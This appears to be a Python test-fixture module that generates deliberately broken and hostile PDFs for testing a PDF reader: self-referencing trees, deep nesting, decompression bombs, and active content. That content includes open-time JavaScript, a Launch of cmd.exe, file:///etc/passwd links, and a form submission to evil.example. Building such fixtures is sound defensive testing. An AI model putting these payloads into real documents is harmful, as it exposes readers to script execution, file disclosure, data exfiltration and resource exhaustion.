"""Hostile and broken PDFs, each nasty in its own way. Values are bytes; names say what is wrong."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable

import pikepdf

from tests.pdf.reader.raw import (
    CATALOG,
    FONT,
    HEADER,
    WORDS,
    annotated,
    catalog,
    changed,
    document,
    on_page,
    packed,
    page,
    plain,
    stream,
)

SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
LAUNCH = b"<</S /Launch /F (cmd.exe)>>"
FILE_SPEC = b"<</Type /Filespec /F (secret.xls) /EF <</F 8 0 R>> >>"
ATTACHED = {7: FILE_SPEC, 8: stream(b"the salaries", b"/Type /EmbeddedFile")}
LINK = b"<</Type /Annot /Subtype /Link /Rect [72 690 200 715] /A %s>>"


def noise(seed: int, length: int) -> bytes:
    """Bytes without sense, the same in every run."""
    return random.Random(seed).randbytes(length)  # noqa: S311  nothing secret


def bomb(gigabytes: int) -> bytes:
    """A compressed stream that unpacks to so many gigabytes of noughts."""
    packing = zlib.compressobj(1)
    block = bytes(1 << 24)
    data = b"".join(packing.compress(block) for _ in range(gigabytes << 6)) + packing.flush()
    return stream(data, b"/Filter /FlateDecode ")


def nested(opening: bytes, closing: bytes, times: int) -> bytes:
    return opening * times + closing * times


TREES: dict[str, Callable[[], bytes]] = {
    "a page tree that holds itself": lambda: changed({2: b"<</Type /Pages /Kids [2 0 R 3 0 R] /Count 2>>"}),
    "two page trees that hold each other": lambda: changed(
        {2: b"<</Type /Pages /Kids [6 0 R] /Count 1>>", 6: b"<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1>>"}
    ),
    "a page that is its own parent": lambda: changed({3: page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")}),
    "kids that are numbers": lambda: changed({2: b"<</Type /Pages /Kids [1 2 3] /Count 3>>"}),
    "kids that are no array": lambda: changed({2: b"<</Type /Pages /Kids 3 0 R /Count 1>>"}),
    "a page listed three times": lambda: changed({2: b"<</Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 3>>"}),
    "a count of two thousand million": lambda: changed({2: b"<</Type /Pages /Kids [3 0 R] /Count 2000000000>>"}),
    "a negative count": lambda: changed({2: b"<</Type /Pages /Kids [3 0 R] /Count -5>>"}),
    "no page tree": lambda: changed({1: b"<</Type /Catalog>>"}),
    "a page tree without kids": lambda: changed({2: b"<</Type /Pages /Kids [] /Count 0>>"}),
    "a catalog that is a page": lambda: changed({1: page()}),
    "a catalog that is a number": lambda: changed({1: b"42"}),
    "a catalog that is not there": lambda: document({2: PAGES_ALONE, 3: page(), 4: stream(WORDS), 5: FONT}),
    "a thousand levels of pages": lambda: _deep_tree(1000),
    "ten thousand levels of pages": lambda: _deep_tree(10_000),
}
PAGES_ALONE = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"


def _deep_tree(levels: int) -> bytes:
    objects = plain()
    first = 10
    objects[2] = b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % first
    for number in range(first, first + levels):
        below = number + 1 if number < first + levels - 1 else 3
        above = number - 1 if number > first else 2
        objects[number] = b"<</Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1>>" % (above, below)
    return document(objects)


BOXES: dict[str, Callable[[], bytes]] = {
    f"a page box of {says}": lambda value=value: changed({3: page(box=value)})  # type: ignore[misc]
    for says, value in {
        "no size": b"[0 0 0 0]",
        "negative size": b"[595 842 0 0]",
        "huge size": b"[0 0 1e30 1e30]",
        "a million points": b"[0 0 1000000 1000000]",
        "words": b"[(a) (b) (c) (d)]",
        "not a number": b"[0 0 NaN Infinity]",
        "three sides": b"[0 0 595]",
        "itself": b"[3 0 R 3 0 R 3 0 R 3 0 R]",
        "nothing": b"null",
        "a hair's breadth": b"[0 0 0.001 842]",
        "far away": b"[999999 999999 1000594 1000841]",
    }.items()
}

PAGES_: dict[str, Callable[[], bytes]] = {
    "a turn of 45 degrees": lambda: on_page(b"/Rotate 45"),
    "a turn of a thousand turns": lambda: on_page(b"/Rotate 360000090"),
    "a crop box outside the page": lambda: on_page(b"/CropBox [2000 2000 3000 3000]"),
    "a user unit of a thousand million": lambda: on_page(b"/UserUnit 1000000000"),
    "a user unit below nought": lambda: on_page(b"/UserUnit -1"),
    "no contents": lambda: changed({3: page(contents=b"")}),
    "contents of nulls": lambda: changed({3: page(contents=b"/Contents [null 4 0 R null 99 0 R]")}),
    "contents that are a dictionary": lambda: changed({3: page(contents=b"/Contents <<>>")}),
    "contents that hold themselves": lambda: changed({3: page(contents=b"/Contents 6 0 R"), 6: b"[6 0 R 4 0 R]"}),
    "resources that are a number": lambda: changed(
        {3: page().replace(b"/Resources <</Font <</F1 5 0 R>> >>", b"/Resources 7 ")}
    ),
    "annotations that are a number": lambda: on_page(b"/Annots 7"),
    "annotations of odds and ends": lambda: on_page(b"/Annots [null 1 (a) /B [] <<>> 99 0 R 3 0 R 4 0 R]"),
    "a form that draws itself": lambda: _form(b"/Fm Do", b"/Resources <</XObject <</Fm 6 0 R>> >>"),
    "two forms that draw each other": lambda: changed(
        {
            3: page().replace(b"/Font", b"/XObject <</Fm 6 0 R>> /Font"),
            4: stream(b"/Fm Do"),
            6: stream(b"/Fn Do", FORM + b"/Resources <</XObject <</Fn 7 0 R>> >>"),
            7: stream(b"/Fm Do", FORM + b"/Resources <</XObject <</Fm 6 0 R>> >>"),
        }
    ),
    "forms that double twenty times": lambda: _doubling(20),
    "a hundred thousand saved states": lambda: changed({4: stream(b"q " * 100_000 + WORDS)}),
    "a hundred thousand restored states": lambda: changed({4: stream(b"Q " * 100_000 + WORDS)}),
    "an unfinished string": lambda: changed({4: stream(b"BT /F1 12 Tf (never ends")}),
    "an unfinished inline picture": lambda: changed({4: stream(b"BI /W 10 /H 10 /BPC 8 /CS /G ID abc")}),
    "operators that are noise": lambda: changed({4: stream(noise(4, 5000))}),
    "a font that is its own descendant": lambda: changed(
        {5: b"<</Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R]>>"}
    ),
    "a picture of a hundred thousand pixels square": lambda: _picture(b"/Width 100000 /Height 100000"),
    "a picture of negative size": lambda: _picture(b"/Width -5 /Height -5"),
    "a pattern that paints with itself": lambda: changed(
        {
            3: page().replace(b"/Font", b"/Pattern <</P 6 0 R>> /Font"),
            4: stream(b"/Pattern cs /P scn 0 0 500 500 re f"),
            6: stream(
                b"/Pattern cs /P scn 0 0 5 5 re f",
                b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 5 5] /XStep 0.001 /YStep 0.001 "
                b"/Resources <</Pattern <</P 6 0 R>> >>",
            ),
        }
    ),
}  # fmt: skip
FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 500 500] "


def _form(drawing: bytes, extra: bytes) -> bytes:
    return changed(
        {
            3: page().replace(b"/Font", b"/XObject <</Fm 6 0 R>> /Font"),
            4: stream(b"/Fm Do"),
            6: stream(drawing, FORM + extra),
        }
    )


def _doubling(times: int) -> bytes:
    objects = {**plain(), 3: page().replace(b"/Font", b"/XObject <</Fm 10 0 R>> /Font"), 4: stream(b"/Fm Do")}
    for number in range(10, 10 + times):
        below = b"/Resources <</XObject <</Fm %d 0 R>> >>" % (number + 1)
        objects[number] = stream(b"/Fm Do /Fm Do", FORM + below)
    objects[10 + times] = stream(b"0 0 1 1 re f", FORM)
    return document(objects)


def _picture(size: bytes) -> bytes:
    return changed(
        {
            3: page().replace(b"/Font", b"/XObject <</Im 6 0 R>> /Font"),
            4: stream(b"q 500 0 0 500 0 0 cm /Im Do Q"),
            6: packed(
                b"x" * 100, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceGray " + size
            ),
        }
    )


STREAMS: dict[str, Callable[[], bytes]] = {
    "a length far too long": lambda: changed({4: b"<</Length 99999999>>\nstream\n" + WORDS + b"\nendstream"}),
    "a negative length": lambda: changed({4: b"<</Length -7>>\nstream\n" + WORDS + b"\nendstream"}),
    "a length that is its own stream": lambda: changed({4: b"<</Length 4 0 R>>\nstream\n" + WORDS + b"\nendstream"}),
    "compressed noise": lambda: changed({4: stream(noise(1, 900), b"/Filter /FlateDecode")}),
    "compression cut short": lambda: changed({4: stream(zlib.compress(WORDS * 50)[:-15], b"/Filter /FlateDecode")}),
    "a filter nobody knows": lambda: changed({4: stream(WORDS, b"/Filter /RoyalMail")}),
    "a hundred filters": lambda: changed({4: stream(WORDS, b"/Filter [" + b"/FlateDecode " * 100 + b"]")}),
    "filters that are numbers": lambda: changed({4: stream(WORDS, b"/Filter [1 2 3]")}),
    "parameters that are nonsense": lambda: changed(
        {4: packed(WORDS, b"/DecodeParms <</Predictor 15 /Columns 2000000000 /Colors 99 /BitsPerComponent 77>>")}
    ),
    "contents in another file": lambda: changed({4: stream(b"", b"/F (/etc/passwd) /FFilter /FlateDecode")}),
    "LZW noise": lambda: changed({4: stream(noise(2, 900), b"/Filter /LZWDecode")}),
    "base 85 noise": lambda: changed({4: stream(noise(3, 900), b"/Filter /ASCII85Decode")}),
    "a bomb inside a bomb": lambda: changed(
        {4: stream(zlib.compress(zlib.compress(bytes(100 << 20), 1), 1), b"/Filter [/FlateDecode /FlateDecode]")}
    ),
}

SYNTAX: dict[str, Callable[[], bytes]] = {
    "ten thousand arrays in each other": lambda: catalog(b"/Odd " + nested(b"[", b"]", 10_000)),
    "ten thousand dictionaries in each other": lambda: catalog(b"/Odd " + nested(b"<</A ", b">>", 10_000)),
    "a hundred thousand unclosed arrays": lambda: catalog(b"/Odd " + b"[" * 100_000),
    "an object that is itself": lambda: catalog(b"/Odd 6 0 R", {6: b"6 0 R"}),
    "two objects that are each other": lambda: catalog(b"/Odd 6 0 R", {6: b"7 0 R", 7: b"6 0 R"}),
    "an object number of nine digits": lambda: catalog(b"/Odd 999999999 0 R"),
    "a number of a thousand digits": lambda: on_page(b"/StructParents " + b"9" * 1000),
    "a name of a megabyte": lambda: catalog(b"/Odd /" + b"A" * (1 << 20)),
    "names that are no UTF-8": lambda: changed({3: page().replace(b"/F1", b"/F#8d#ff"), 4: stream(WORDS)}),
    "a previous table that is this one": lambda: _previous(lambda start: start),
    "a previous table before the file": lambda: _previous(lambda start: -1),
    "a previous table past the end": lambda: _previous(lambda start: 10**12),
    "a start past the end": lambda: _start(b"99999999"),
    "a start in letters": lambda: _start(b"abcdefg"),
    "no trailer": lambda: document(plain()).partition(b"trailer")[0],
    "a trailer only": lambda: HEADER + b"trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF",
    "a header only": lambda: HEADER,
    "a kilobyte of noise before the header": lambda: noise(5, 900) + document(plain()),
    "an e-mail's lines before the header": lambda: b"Content-Type: application/pdf\r\n\r\n" + document(plain()),
    "noughts after the end": lambda: document(plain()) + bytes(100_000),
    "an object stream with a false count": lambda: _object_stream(b"/N 100000 /First 5"),
    "an object stream with a negative start": lambda: _object_stream(b"/N 1 /First -5"),
    "an object stream in itself": lambda: _object_stream(b"/N 1 /First 5 /Extends 6 0 R"),
    "a line ending of the old Macintosh": lambda: document(plain()).replace(b"\n", b"\r"),
    "a million empty objects": lambda: document(plain()) + b"9 0 obj null endobj\n" * 200_000,
}


def _previous(at: Callable[[int], int]) -> bytes:
    start = document(plain()).rindex(b"xref\n0 6")
    return document(plain(), b"/Prev %d" % at(start))


def _start(place: bytes) -> bytes:
    before, _, _ = document(plain()).rpartition(b"startxref\n")
    return before + b"startxref\n" + place + b"\n%%EOF\n"


def _object_stream(keys: bytes) -> bytes:
    return catalog(b"/Odd 7 0 R", {6: packed(b"7 0 <</A 6 0 R>>", b"/Type /ObjStm " + keys)})


STRUCTURE: dict[str, Callable[[], bytes]] = {
    "structure that holds itself": lambda: _structured(b"/K 6 0 R", b"<</S /P /P 6 0 R /K 7 0 R>>"),
    "structure of ten thousand levels": lambda: _deep_structure(10_000),
    "structure that is a number": lambda: catalog(b"/StructTreeRoot 7 /MarkInfo <</Marked true>>"),
    "structure that reaches no page": lambda: _structured(b"/K 7 0 R", b"<</S /P /P 6 0 R>>"),
    "structure without a parent tree": lambda: _structured(b"/K 7 0 R", b"<</S /P /P 6 0 R /Pg 3 0 R /K 0>>"),
    "a parent tree that holds itself": lambda: _structured(
        b"/K 7 0 R /ParentTree 8 0 R", b"<</S /P /P 6 0 R /Pg 3 0 R /K 0>>", {8: b"<</Kids [8 0 R 8 0 R]>>"}
    ),
    "roles that go round": lambda: _structured(
        b"/K 7 0 R /RoleMap <</A /B /B /A>>", b"<</S /A /P 6 0 R /Pg 3 0 R /K 0>>"
    ),
    "bookmarks that go round": lambda: catalog(
        b"/Outlines 6 0 R",
        {6: b"<</First 7 0 R /Last 7 0 R>>", 7: b"<</Title (A) /Dest [3 0 R /Fit] /Next 7 0 R /First 6 0 R>>"},
    ),
    "bookmarks of ten thousand levels": lambda: _deep_bookmarks(10_000),
    "named places that go round": lambda: catalog(
        b"/Names <</Dests 6 0 R>> /Dests <</A /A>>", {6: b"<</Kids [6 0 R] /Names [(A) (A)]>>"}
    ),
    "form fields that go round": lambda: catalog(
        b"/AcroForm <</Fields [6 0 R] /NeedAppearances true>>",
        {6: b"<</T (a) /FT /Tx /V (b) /Kids [6 0 R] /Parent 6 0 R>>"},
    ),
    "layers that go round": lambda: changed(
        {
            1: CATALOG[:-2] + b"/OCProperties <</OCGs [6 0 R] /D <</OFF [6 0 R]>> >> >>",
            3: page().replace(b"/Font", b"/Properties <</L 7 0 R>> /Font"),
            4: stream(b"/OC /L BDC " + WORDS + b" EMC"),
            6: b"<</Type /OCG /Name (Hidden)>>",
            7: b"<</Type /OCMD /VE 8 0 R>>",
            8: b"[/Not [/And 8 0 R 8 0 R]]",
        }
    ),
}  # fmt: skip


def _structured(root: bytes, element: bytes, others: dict[int, bytes] | None = None) -> bytes:
    return changed(
        {
            1: CATALOG[:-2] + b"/StructTreeRoot 6 0 R /MarkInfo <</Marked true>> >>",
            3: page(b"/StructParents 0"),
            4: stream(b"/P <</MCID 0>> BDC " + WORDS + b" EMC"),
            6: b"<</Type /StructTreeRoot " + root + b">>",
            7: element,
            **(others or {}),
        }
    )


def _deep_structure(levels: int) -> bytes:
    below = {n: b"<</S /Div /P %d 0 R /K %d 0 R>>" % (n - 1, n + 1) for n in range(8, 8 + levels)}
    below[8 + levels] = b"<</S /P /P %d 0 R /Pg 3 0 R /K 0>>" % (7 + levels)
    return _structured(b"/K 7 0 R", b"<</S /Document /P 6 0 R /K 8 0 R>>", below)


def _deep_bookmarks(levels: int) -> bytes:
    objects = {n: b"<</Title (A) /Dest [3 0 R /Fit] /First %d 0 R>>" % (n + 1) for n in range(7, 7 + levels)}
    return catalog(b"/Outlines 6 0 R", {6: b"<</First 7 0 R>>", **objects})


ACTIVE: dict[str, Callable[[], bytes]] = {
    "a script on opening": lambda: catalog(b"/OpenAction " + SCRIPT),
    "scripts by name": lambda: catalog(b"/Names <</JavaScript <</Names [(a) 6 0 R (b) 6 0 R]>> >>", {6: SCRIPT}),
    "a script before closing": lambda: catalog(b"/AA <</WC " + SCRIPT + b">>"),
    "a script when a page opens": lambda: on_page(b"/AA <</O " + SCRIPT + b">>"),
    "a script behind a link": lambda: annotated(LINK % SCRIPT),
    "a script after a good link": lambda: annotated(
        LINK % (b"<</S /URI /URI (https://a.example) /Next " + SCRIPT + b">>")
    ),
    "a script in a chain that goes round": lambda: annotated(
        LINK % b"7 0 R", {7: b"<</S /JavaScript /JS (a) /Next [7 0 R 7 0 R]>>"}
    ),
    "a script in a bookmark": lambda: catalog(
        b"/Outlines 6 0 R", {6: b"<</First 7 0 R>>", 7: b"<</Title (A) /A " + SCRIPT + b">>"}
    ),
    "a script in a form field": lambda: annotated(
        b"<</Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA <</K " + SCRIPT + b">> >>"
    ),
    "a script address": lambda: annotated(LINK % b"<</S /URI /URI (javascript:alert\\(1\\))>>"),
    "an address of this house": lambda: annotated(LINK % b"<</S /URI /URI (moothall:part/3)>>"),
    "an address of a file": lambda: annotated(LINK % b"<</S /URI /URI (file:///etc/passwd)>>"),
    "a program behind a link": lambda: annotated(LINK % LAUNCH),
    "a program on opening": lambda: catalog(b"/OpenAction " + LAUNCH),
    "another file behind a link": lambda: annotated(LINK % b"<</S /GoToR /F (other.pdf) /D [0 /Fit]>>"),
    "an inner file behind a link": lambda: annotated(LINK % b"<</S /GoToE /T <</R /C /N (a)>> /D [0 /Fit]>>"),
    "a form that is sent": lambda: annotated(LINK % b"<</S /SubmitForm /F <</FS /URL /F (https://evil.example)>> >>"),
    "a form that is filled in from a file": lambda: annotated(LINK % b"<</S /ImportData /F (a.fdf)>>"),
    "an attached file": lambda: catalog(b"/Names <</EmbeddedFiles <</Names [(a) 7 0 R]>> >>", ATTACHED),
    "a file attached to a place": lambda: annotated(
        b"<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R>>", ATTACHED
    ),
    "a file that goes with the page": lambda: on_page(b"/AF [7 0 R]", ATTACHED),
    "a portfolio": lambda: catalog(
        b"/Collection <</Type /Collection>> /Names <</EmbeddedFiles <</Names [(a) 7 0 R]>> >>", ATTACHED
    ),
    "a film": lambda: annotated(
        b"<</Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A <</S /Rendition /R <</C <</D 7 0 R>> >> >> >>", ATTACHED
    ),
    "rich media": lambda: annotated(
        b"<</Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent <</Assets 7 0 R>> >>", ATTACHED
    ),
    "a sound": lambda: annotated(
        b"<</Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 7 0 R>>", {7: stream(b"beep")}
    ),
    "a model in three dimensions": lambda: annotated(
        b"<</Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R>>", {7: stream(SCRIPT, b"/Type /3D /Subtype /U3D")}
    ),
    "a form of Adobe's own": lambda: catalog(b"/AcroForm <</Fields [] /XFA 6 0 R>>", {6: stream(b"<xdp:xdp/>")}),
}  # fmt: skip

ALL: dict[str, Callable[[], bytes]] = {**TREES, **BOXES, **PAGES_, **STREAMS, **SYNTAX, **STRUCTURE, **ACTIVE}


def sound(pages: int = 3) -> bytes:
    """A sound document as programs write it today: object streams, a cross-reference stream, compression."""
    with pikepdf.open(io.BytesIO(document(plain()))) as pdf:
        for _ in range(pages - 1):
            pdf.pages.append(pdf.pages[0])
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, deterministic_id=True)
    return out.getvalue()


def encrypted(revision: int, *, user: str) -> bytes:
    """The sound document, encrypted in one of the five ways there are."""
    with pikepdf.open(io.BytesIO(document(plain()))) as pdf:
        out = io.BytesIO()
        modern = {"aes": revision >= 4, "metadata": revision >= 4}
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user, R=revision, **modern))  # type: ignore[arg-type]
    return out.getvalue()
